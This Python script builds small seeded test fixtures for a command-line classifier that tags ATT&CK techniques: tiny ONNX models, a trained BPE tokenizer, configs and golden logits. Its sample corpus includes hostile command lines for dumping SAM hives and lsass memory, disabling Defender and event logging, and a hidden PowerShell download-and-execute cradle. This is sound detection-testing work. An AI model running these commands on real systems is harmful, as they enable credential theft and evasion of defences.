#!/usr/bin/python3
"""Build the tiny test fixtures for package classifier (seeded, deterministic).

Writes, under --out (default: shared/classifier/testdata in this checkout):

  tiny/        RoBERTa-shaped sequence classifier: 2 layers, hidden 32, 2 heads, random weights,
               inputs input_ids/attention_mask (int64, dynamic batch/sequence), output logits
               [batch, 4]; tokenizer.json (byte-level BPE trained here on a few log lines, with
               RoBERTa post-processing and padding/truncation settings like an HF export);
               config.json with LABEL_0..3 and a "ttpscope.label_map"; golden.json with torch
               logits for a few token-id sequences and texts.
  tiny_tt/     same tokenizer, a 1-layer hidden-16 model that also takes token_type_ids and
               names its labels directly (benign, T1003.002, ...).
  graphs/      weightless graphs for load-error tests: no_mask.onnx (no attention_mask input),
               rank3.onnx (logits [batch, 1, 4]), int32.onnx (int32 input_ids).

Run: /usr/bin/python3 model/testmodels/make_tiny_model.py [--out DIR] [--seed N]
Needs python3-torch (1.13), python3-onnx, python3-numpy.
"""
import argparse
import collections
import json
import os
import random
import re

import numpy as np
import onnx
import torch
from onnx import TensorProto, helper

SPECIALS = ["<s>", "<pad>", "</s>", "<unk>"]
PAD_ID = 1
LABELS = ["benign", "T1003.002", "T1562", "T1134"]

CORPUS = [
    "reg save HKLM\\SAM C:\\Windows\\Temp\\sam.save",
    "reg save HKLM\\SYSTEM C:\\Windows\\Temp\\system.save",
    "reg save hklm\\security sec.hiv",
    "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full",
    "procdump.exe -accepteula -ma lsass.exe lsass.dmp",
    "Set-MpPreference -DisableRealtimeMonitoring $true",
    "sc stop WinDefend",
    "netsh advfirewall set allprofiles state off",
    "auditpol /clear /y",
    "wevtutil cl Security",
    "fltMC.exe unload SysmonDrv",
    "Invoke-TokenManipulation -ImpersonateUser -Username \"NT AUTHORITY\\SYSTEM\"",
    "runas /netonly /user:CORP\\admin cmd.exe",
    "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')\"",
    "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
    "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer",
    "git status --short",
    "ls -la /var/log",
    "systemctl restart nginx.service",
    "ssh -i ~/.ssh/id_ed25519 deploy@build-01",
    "python3 -m pip install --user requests",
    "notepad.exe C:\\Users\\alice\\Documents\\notes.txt",
    "explorer.exe",
    "tasklist /v /fo csv",
    "whoami /priv",
    "net user administrator /active:yes",
    "cmd.exe /c echo hello world > out.txt",
    "Get-Process | Where-Object { $_.CPU -gt 100 }",
    "sudo apt-get update && sudo apt-get upgrade -y",
    "curl -s https://example.com/install.sh | bash",
]

# Approximation of the GPT-2 pre-tokenizer regex for ASCII text (\p{L} -> [A-Za-z], \p{N} -> [0-9]).
PRETOKEN = re.compile(r"""'s|'t|'re|'ve|'m|'ll|'d| ?[A-Za-z]+| ?[0-9]+| ?[^\sA-Za-z0-9]+|\s+(?!\S)|\s+""")


def bytes_to_unicode():
    bs = list(range(ord("!"), ord("~") + 1)) + list(range(ord("¡"), ord("¬") + 1)) + \
        list(range(ord("®"), ord("ÿ") + 1))
    cs = bs[:]
    n = 0
    for b in range(256):
        if b not in bs:
            bs.append(b)
            cs.append(256 + n)
            n += 1
    return dict(zip(bs, [chr(c) for c in cs]))


BYTE_ENCODER = bytes_to_unicode()


def pretokenize(text):
    return ["".join(BYTE_ENCODER[b] for b in piece.encode("utf-8")) for piece in PRETOKEN.findall(text)]


def train_bpe(corpus, num_merges):
    words = collections.Counter()
    for line in corpus:
        for w in pretokenize(line):
            words[tuple(w)] += 1
    merges = []
    for _ in range(num_merges):
        pairs = collections.Counter()
        for w, c in words.items():
            for a, b in zip(w, w[1:]):
                pairs[(a, b)] += c
        if not pairs:
            break
        # Highest count, ties broken by the pair itself so the result is deterministic.
        best = max(pairs.items(), key=lambda kv: (kv[1], kv[0]))[0]
        if pairs[best] < 2:
            break
        merges.append(best)
        merged = collections.Counter()
        for w, c in words.items():
            out, i = [], 0
            while i < len(w):
                if i + 1 < len(w) and (w[i], w[i + 1]) == best:
                    out.append(w[i] + w[i + 1])
                    i += 2
                else:
                    out.append(w[i])
                    i += 1
            merged[tuple(out)] += c
        words = merged
    return merges


def bpe_encode_word(word, ranks):
    parts = list(word)
    while len(parts) > 1:
        best, best_rank = None, None
        for i in range(len(parts) - 1):
            r = ranks.get((parts[i], parts[i + 1]))
            if r is not None and (best_rank is None or r < best_rank):
                best, best_rank = i, r
        if best is None:
            break
        parts = parts[:best] + [parts[best] + parts[best + 1]] + parts[best + 2:]
    return parts


def encode(text, vocab, ranks):
    ids = []
    for w in pretokenize(text):
        ids.extend(vocab[p] for p in bpe_encode_word(w, ranks))
    return ids


def build_tokenizer(num_merges):
    merges = train_bpe(CORPUS, num_merges)
    vocab = {}
    for s in SPECIALS:
        vocab[s] = len(vocab)
    for b in range(256):
        vocab[BYTE_ENCODER[b]] = len(vocab)
    for a, b in merges:
        if a + b not in vocab:
            vocab[a + b] = len(vocab)
    vocab["<mask>"] = len(vocab)
    added = [{"id": vocab[s], "content": s, "single_word": False, "lstrip": s == "<mask>", "rstrip": False,
              "normalized": s != "<mask>", "special": True} for s in SPECIALS + ["<mask>"]]
    tok = {
        "version": "1.0",
        "truncation": {"direction": "Right", "max_length": 64, "strategy": "LongestFirst", "stride": 0},
        "padding": {"strategy": "BatchLongest", "direction": "Right", "pad_to_multiple_of": None,
                    "pad_id": PAD_ID, "pad_type_id": 0, "pad_token": "<pad>"},
        "added_tokens": added,
        "normalizer": None,
        "pre_tokenizer": {"type": "ByteLevel", "add_prefix_space": False, "trim_offsets": True, "use_regex": True},
        "post_processor": {"type": "RobertaProcessing", "sep": ["</s>", 2], "cls": ["<s>", 0],
                           "trim_offsets": True, "add_prefix_space": False},
        "decoder": {"type": "ByteLevel", "add_prefix_space": True, "trim_offsets": True, "use_regex": True},
        "model": {"type": "BPE", "dropout": None, "unk_token": None, "continuing_subword_prefix": "",
                  "end_of_word_suffix": "", "fuse_unk": False, "byte_fallback": False, "ignore_merges": False,
                  "vocab": vocab, "merges": [a + " " + b for a, b in merges]},
    }
    ranks = {m: i for i, m in enumerate(merges)}
    return tok, vocab, ranks


class Layer(torch.nn.Module):
    def __init__(self, hidden, heads, ffn):
        super().__init__()
        self.heads = heads
        self.qkv = torch.nn.Linear(hidden, 3 * hidden)
        self.out = torch.nn.Linear(hidden, hidden)
        self.ln1 = torch.nn.LayerNorm(hidden, eps=1e-5)
        self.ff1 = torch.nn.Linear(hidden, ffn)
        self.ff2 = torch.nn.Linear(ffn, hidden)
        self.ln2 = torch.nn.LayerNorm(hidden, eps=1e-5)

    def forward(self, x, bias):
        b, s, h = x.shape
        d = h // self.heads
        q, k, v = self.qkv(x).split(h, dim=-1)
        q = q.view(b, s, self.heads, d).transpose(1, 2)
        k = k.view(b, s, self.heads, d).transpose(1, 2)
        v = v.view(b, s, self.heads, d).transpose(1, 2)
        att = torch.softmax(q @ k.transpose(-1, -2) / (d ** 0.5) + bias, dim=-1)
        ctx = (att @ v).transpose(1, 2).reshape(b, s, h)
        x = self.ln1(x + self.out(ctx))
        return self.ln2(x + self.ff2(torch.nn.functional.gelu(self.ff1(x))))


class TinyRoberta(torch.nn.Module):
    """RoBERTa-shaped: position ids from non-pad tokens offset by pad id, post-LN encoder, <s> head."""

    def __init__(self, vocab, hidden, layers, heads, ffn, max_pos, labels, token_types):
        super().__init__()
        self.word = torch.nn.Embedding(vocab, hidden, padding_idx=PAD_ID)
        self.pos = torch.nn.Embedding(max_pos, hidden, padding_idx=PAD_ID)
        self.token_type = torch.nn.Embedding(1, hidden) if token_types else None
        self.ln = torch.nn.LayerNorm(hidden, eps=1e-5)
        self.layers = torch.nn.ModuleList([Layer(hidden, heads, ffn) for _ in range(layers)])
        self.dense = torch.nn.Linear(hidden, hidden)
        self.out_proj = torch.nn.Linear(hidden, labels)

    def forward(self, input_ids, attention_mask, token_type_ids=None):
        not_pad = (input_ids != PAD_ID).long()
        pos_ids = torch.cumsum(not_pad, dim=1) * not_pad + PAD_ID
        x = self.word(input_ids) + self.pos(pos_ids)
        if self.token_type is not None:
            x = x + self.token_type(token_type_ids)
        x = self.ln(x)
        bias = (1.0 - attention_mask[:, None, None, :].float()) * -1e9
        for layer in self.layers:
            x = layer(x, bias)
        return self.out_proj(torch.tanh(self.dense(x[:, 0, :])))


def export(model, path, token_types):
    model.eval()
    ids = torch.tensor([[0, 100, 101, 2], [0, 102, 2, PAD_ID]], dtype=torch.long)
    mask = (ids != PAD_ID).long()
    names = ["input_ids", "attention_mask"]
    args = (ids, mask)
    if token_types:
        names.append("token_type_ids")
        args = (ids, mask, torch.zeros_like(ids))
    axes = {n: {0: "batch_size", 1: "sequence_length"} for n in names}
    axes["logits"] = {0: "batch_size"}
    torch.onnx.export(model, args, path, input_names=names, output_names=["logits"], dynamic_axes=axes,
                      opset_version=14, do_constant_folding=True)
    m = onnx.load(path)
    m.producer_name = "ttpscope-testdata"
    m.doc_string = ""
    onnx.save(m, path)


def logits(model, ids_list, token_types):
    out = []
    with torch.no_grad():
        for ids in ids_list:
            t = torch.tensor([ids], dtype=torch.long)
            args = (t, torch.ones_like(t))
            if token_types:
                args = args + (torch.zeros_like(t),)
            out.append([round(float(v), 7) for v in model(*args)[0]])
    return out


def config(name, hidden, layers, heads, ffn, max_pos, vocab_size, labels, label_map):
    cfg = {
        "_name_or_path": name,
        "architectures": ["RobertaForSequenceClassification"],
        "model_type": "roberta",
        "hidden_size": hidden, "num_hidden_layers": layers, "num_attention_heads": heads,
        "intermediate_size": ffn, "max_position_embeddings": max_pos, "vocab_size": vocab_size,
        "type_vocab_size": 1, "pad_token_id": PAD_ID, "bos_token_id": 0, "eos_token_id": 2,
        "id2label": {str(i): l for i, l in enumerate(labels)},
        "label2id": {l: i for i, l in enumerate(labels)},
        "problem_type": "single_label_classification",
    }
    if label_map is not None:
        cfg["ttpscope"] = {"label_map": label_map, "temperature": 1.0, "name": "tiny-test",
                           "version": "0.0.1-test"}
    return cfg


def write_json(path, obj):
    with open(path, "w", encoding="utf-8") as f:
        json.dump(obj, f, ensure_ascii=False, indent=1, sort_keys=False)
        f.write("\n")


def small_graphs(out):
    os.makedirs(out, exist_ok=True)

    def graph(path, inputs, out_shape, ids_type=TensorProto.INT64):
        nodes = [helper.make_node("Cast", ["input_ids"], ["f"], to=TensorProto.FLOAT),
                 helper.make_node("ReduceMean", ["f"], ["m"], axes=[1], keepdims=1),
                 helper.make_node("Expand", ["m", "shape"], ["e"])]
        last = "e"
        if len(out_shape) == 3:
            nodes.append(helper.make_node("Unsqueeze", ["e", "axes"], ["u"]))
            last = "u"
        nodes.append(helper.make_node("Identity", [last], ["logits"]))
        inits = [helper.make_tensor("shape", TensorProto.INT64, [2], [1, 4]),
                 helper.make_tensor("axes", TensorProto.INT64, [1], [1])]
        ins = [helper.make_tensor_value_info(n, ids_type if n == "input_ids" else TensorProto.INT64,
                                             ["batch_size", "sequence_length"]) for n in inputs]
        g = helper.make_graph(nodes, "g", ins, [helper.make_tensor_value_info("logits", TensorProto.FLOAT,
                                                                                out_shape)], inits)
        m = helper.make_model(g, opset_imports=[helper.make_opsetid("", 14)], producer_name="ttpscope-testdata")
        m.ir_version = 8
        onnx.checker.check_model(m)
        onnx.save(m, path)

    graph(os.path.join(out, "no_mask.onnx"), ["input_ids"], ["batch_size", 4])
    graph(os.path.join(out, "rank3.onnx"), ["input_ids", "attention_mask"], ["batch_size", 1, 4])
    graph(os.path.join(out, "int32.onnx"), ["input_ids", "attention_mask"], ["batch_size", 4],
          ids_type=TensorProto.INT32)
    graph(os.path.join(out, "extra_input.onnx"), ["input_ids", "attention_mask", "position_ids"],
          ["batch_size", 4])


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--out", default=os.path.join(os.path.dirname(os.path.abspath(__file__)),
                                               "..", "..", "shared", "classifier", "testdata"))
    ap.add_argument("--seed", type=int, default=1234)
    ap.add_argument("--merges", type=int, default=120)
    args = ap.parse_args()

    random.seed(args.seed)
    np.random.seed(args.seed)
    torch.manual_seed(args.seed)
    torch.use_deterministic_algorithms(True)

    tok, vocab, ranks = build_tokenizer(args.merges)
    max_pos = 66  # RoBERTa convention: max tokens = max_position_embeddings - pad_token_id - 1 = 64
    golden_texts = ["reg save HKLM\\SAM sam.save", "git status --short", "sc stop WinDefend",
                    "whoami /priv && net user administrator /active:yes"]
    golden_ids = [[0, 5, 9, 2], [0] + list(range(4, 60)) + [2], [0, 100, 2]]

    label_style = {"tiny": ["LABEL_0", "LABEL_1", "LABEL_2", "LABEL_3"], "tiny_tt": LABELS}
    shapes = {"tiny": (32, 2, 2, 64, False), "tiny_tt": (16, 1, 2, 32, True)}
    for name, (hidden, layers, heads, ffn, tt) in shapes.items():
        d = os.path.join(args.out, name)
        os.makedirs(d, exist_ok=True)
        model = TinyRoberta(len(vocab), hidden, layers, heads, ffn, max_pos, 4, tt)
        with torch.no_grad():  # spread the logits so texts and windows get clearly different scores
            model.out_proj.weight.mul_(8.0)
        export(model, os.path.join(d, "model.onnx"), tt)
        write_json(os.path.join(d, "tokenizer.json"), tok)
        labels = label_style[name]
        label_map = {l: c for l, c in zip(labels, LABELS)} if labels != LABELS else None
        write_json(os.path.join(d, "config.json"),
                   config("ttpscope/" + name, hidden, layers, heads, ffn, max_pos, len(vocab), labels, label_map))
        text_ids = [[0] + encode(t, vocab, ranks) + [2] for t in golden_texts]
        write_json(os.path.join(d, "golden.json"), {
            "ids": [{"ids": ids, "logits": lg} for ids, lg in zip(golden_ids, logits(model, golden_ids, tt))],
            "texts": [{"text": t, "ids": ids, "logits": lg}
                      for t, ids, lg in zip(golden_texts, text_ids, logits(model, text_ids, tt))],
        })
    small_graphs(os.path.join(args.out, "graphs"))


if __name__ == "__main__":
    main()
